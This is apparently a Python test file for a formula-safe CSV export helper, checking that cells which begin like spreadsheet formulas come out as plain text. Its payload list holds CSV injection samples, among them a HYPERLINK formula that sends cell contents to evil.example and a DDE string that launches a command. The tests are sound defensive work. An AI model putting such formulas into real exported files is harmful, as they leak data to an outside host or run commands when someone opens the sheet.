"""The one formula-safe CSV helper (issue 19): a spreadsheet shows each cell as text."""

import csv
import io
from decimal import Decimal

import pytest

from apps.core.csvsafe import CsvLines, safe_cell

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_turned_into_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Arbeidstrening i grønne fag", "Arbeidstrening i grønne fag"),
        ("", ""),
        (None, ""),
        (-5, "-5"),
        (Decimal("-1.5"), "-1.5"),
        ("-12", "-12"),
        ("+47,5", "+47,5"),
        ("e-post: a@b.no", "e-post: a@b.no"),
        (True, "True"),
    ],
)
def test_plain_text_and_numbers_are_kept(value, expected):
    assert safe_cell(value) == expected


def test_already_neutralised_cells_are_not_changed_twice():
    once = safe_cell("=1+1")
    assert safe_cell(once) == once


def test_csv_lines_write_every_cell_safely_with_the_chosen_delimiter():
    lines = CsvLines(delimiter=";")
    text = lines.row(["Navn", "=1+1", 3]) + lines.row(["@a", "b;c", None])
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["Navn", "'=1+1", "3"], ["'@a", "b;c", ""]]
